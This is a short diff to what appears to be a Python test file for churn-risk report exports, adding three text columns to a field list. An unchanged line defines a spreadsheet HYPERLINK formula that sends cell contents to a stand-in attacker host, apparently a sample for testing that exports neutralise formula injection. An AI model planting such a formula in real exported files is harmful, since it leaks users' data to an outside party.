@@ -17,7 +17,7 @@ from serving.report.exports import at_risk_csv, at_risk_markdown, neutralise_for
 from serving.report.tables import AT_RISK_COLUMNS
 
 TEXT = ["account_id", "account", "segment", "csm_owner", "risk_tier", "top_reasons", "recommended_action",
-        "owner_role", "previous_tier", "renewal", "urgency", "due_by"]
+        "owner_role", "previous_tier", "renewal", "urgency", "due_by", "playbook", "arm", "no_action_reason"]
 NUMBERS = ["mrr", "churn_probability", "probability_change", "expected_mrr_loss", "previous_probability",
            "days_in_tier", "days_to_renewal"]
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
